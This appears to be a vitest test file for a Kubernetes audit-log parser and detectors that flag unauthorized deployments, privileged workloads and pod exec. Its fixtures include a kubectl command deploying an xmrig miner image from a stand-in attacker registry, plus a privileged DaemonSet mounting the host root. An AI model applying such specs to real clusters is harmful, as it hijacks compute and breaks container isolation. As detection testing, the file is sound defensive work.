import { mkdtempSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { parseAuditLog, readAuditLogFile } from '../../../electron/engine/kube/audit-log.js';
import { runDetectors } from '../../../electron/engine/detect/run-detectors.js';
import { engine } from './fixtures.js';

/** Audit records shaped as kube-apiserver writes them (audit.k8s.io/v1, one JSON object per line). */
function record(o: {
  verb: string;
  resource: string;
  sub?: string;
  ns?: string;
  name?: string;
  stage?: string;
  code?: number;
  user?: string;
  body?: unknown;
  ua?: string;
  time?: string;
}) {
  return JSON.stringify({
    kind: 'Event',
    apiVersion: 'audit.k8s.io/v1',
    level: 'RequestResponse',
    auditID: Math.random().toString(16).slice(2),
    stage: o.stage ?? 'ResponseComplete',
    requestURI: `/apis/apps/v1/namespaces/${o.ns ?? 'default'}/${o.resource}`,
    verb: o.verb,
    user: { username: o.user ?? 'kubernetes-admin', groups: ['system:masters', 'system:authenticated'] },
    sourceIPs: ['127.0.0.1'],
    userAgent: o.ua ?? 'kubectl/v1.30.2 (linux/amd64) kubernetes/39683505',
    objectRef: {
      resource: o.resource,
      subresource: o.sub,
      namespace: o.ns ?? 'default',
      name: o.name,
      apiGroup: 'apps',
      apiVersion: 'v1',
    },
    responseStatus: { metadata: {}, code: o.code ?? 201 },
    requestObject: o.body,
    requestReceivedTimestamp: o.time ?? '2026-11-23T10:00:00.000000Z',
    stageTimestamp: o.time ?? '2026-11-23T10:00:00.100000Z',
  });
}
const deployment = (image: string, podSpec: Record<string, unknown> = {}) => ({
  kind: 'Deployment',
  apiVersion: 'apps/v1',
  metadata: { name: 'x' },
  spec: { replicas: 1, template: { spec: { containers: [{ name: 'c', image }], ...podSpec } } },
});

function writeLog(lines: string[]): string {
  const dir = mkdtempSync(path.join(os.tmpdir(), 'stowaway-audit-'));
  const file = path.join(dir, 'audit.log');
  writeFileSync(file, lines.join('\n') + '\n');
  return file;
}

describe('Kubernetes audit log', () => {
  const lines = [
    // `kubectl create deployment miner --image=evil.example/xmrig:latest`: logged at two stages, kept once.
    record({
      verb: 'create',
      resource: 'deployments',
      name: 'miner',
      stage: 'RequestReceived',
      body: deployment('evil.example/xmrig:latest'),
    }),
    record({ verb: 'create', resource: 'deployments', name: 'miner', body: deployment('evil.example/xmrig:latest') }),
    // An authorized rollout from the site registry.
    record({
      verb: 'create',
      resource: 'deployments',
      name: 'shop',
      user: 'ci-deployer',
      ua: 'helm/3.15',
      body: deployment('registry.example.com/shop:1.4.2'),
    }),
    // A privileged DaemonSet with the host root mounted.
    record({
      verb: 'create',
      resource: 'daemonsets',
      name: 'node-helper',
      ns: 'default',
      body: {
        kind: 'DaemonSet',
        spec: {
          template: {
            spec: {
              hostPID: true,
              containers: [{ name: 'h', image: 'busybox:1.36', securityContext: { privileged: true } }],
              volumes: [{ name: 'root', hostPath: { path: '/' } }],
            },
          },
        },
      },
    }),
    // `kubectl exec -it` into a pod.
    record({ verb: 'create', resource: 'pods', sub: 'exec', name: 'shop-7d9f', ns: 'prod', code: 101 }),
    // A create the API server refused (RBAC): not a deployment.
    record({
      verb: 'create',
      resource: 'deployments',
      name: 'denied',
      code: 403,
      body: deployment('evil.example/xmrig:latest'),
    }),
    '{"kind":"Event","apiVersion":"audit.k8s.io/v1"',
    'plain text that is not JSON',
    JSON.stringify({ kind: 'Pod', apiVersion: 'v1' }),
  ];

  it('parses records into KubeAuditEvent, keeping one stage per request and reporting every bad line', async () => {
    const r = await readAuditLogFile(writeLog(lines));
    expect(r.events.map((e) => `${e.verb} ${e.resource} ${e.name}`)).toEqual([
      'create deployments miner',
      'create deployments shop',
      'create daemonsets node-helper',
      'create pods/exec shop-7d9f',
    ]);
    expect(r.skipped).toBe(2);
    expect(r.errors.map((e) => e.line)).toEqual([7, 8, 9]);
    expect(r.events[0]).toMatchObject({
      user: 'kubernetes-admin',
      images: ['evil.example/xmrig:latest'],
      sourceIPs: ['127.0.0.1'],
      namespace: 'default',
    });
    expect([...r.events[2]!.podFlags].sort()).toEqual(['hostPID', 'hostPath:/', 'privileged']);
    expect(parseAuditLog(lines.join('\n')).events).toEqual(r.events);
  });

  it('flags `kubectl create deployment` with an image outside the allowlist and leaves the authorized rollout alone', async () => {
    const { events } = await readAuditLogFile(writeLog(lines));
    const ev = engine([], { kubeAudit: events });
    const r = runDetectors(ev, {
      policy: { allowedImages: ['registry.example.com/*'] },
      only: ['unauthorized-deployment'],
    });
    expect(r.findings.map((f) => f.container?.name).sort()).toEqual([
      'daemonset/default/node-helper',
      'deployment/default/miner',
    ]);
    const miner = r.findings.find((f) => f.container?.name === 'deployment/default/miner')!;
    // A known miner image is high, and the finding names its workload and sits on the timeline at the audit time.
    expect(miner.severity).toBe('high');
    expect(miner.summary).toContain('evil.example/xmrig:latest');
    expect(miner.attack).toEqual(['T1610', 'T1204.003', 'T1496']);
    expect(miner.workload).toEqual({ kind: 'Deployment', namespace: 'default', name: 'miner' });
    expect(miner.firstSeen).toMatch(/^2026-/);
    expect(r.findings.find((f) => f.container?.name === 'daemonset/default/node-helper')!.severity).toBe('medium');
    // Without an allowlist every workload a person creates is reviewed at medium at least; the miner stays high.
    const open = runDetectors(ev, { only: ['unauthorized-deployment'] });
    expect(open.findings.map((f) => f.severity)).toEqual(['high', 'medium', 'medium']);
  });

  it('flags privileged workloads and exec into pods from the same log', async () => {
    const { events } = await readAuditLogFile(writeLog(lines));
    const r = runDetectors(engine([], { kubeAudit: events }), { only: ['kube-privileged-workload', 'kube-pod-exec'] });
    expect(r.findings.map((f) => [f.detector, f.severity, f.container?.name])).toEqual([
      ['kube-privileged-workload', 'critical', 'daemonsets/node-helper'],
      ['kube-pod-exec', 'medium', 'pod/shop-7d9f'],
    ]);
  });

  it('bounds hostile fields and stops at the event limit', () => {
    const huge = record({
      verb: 'create',
      resource: 'deployments',
      name: 'n'.repeat(10_000),
      body: deployment('i'.repeat(10_000)),
    });
    const r = parseAuditLog([huge, huge, huge].join('\n'), 2);
    expect(r.events).toHaveLength(2);
    expect(r.truncated).toBe(true);
    expect(r.events[0]!.name!.length).toBeLessThanOrEqual(256);
    expect(r.events[0]!.images[0]!.length).toBeLessThanOrEqual(256);
  });
});
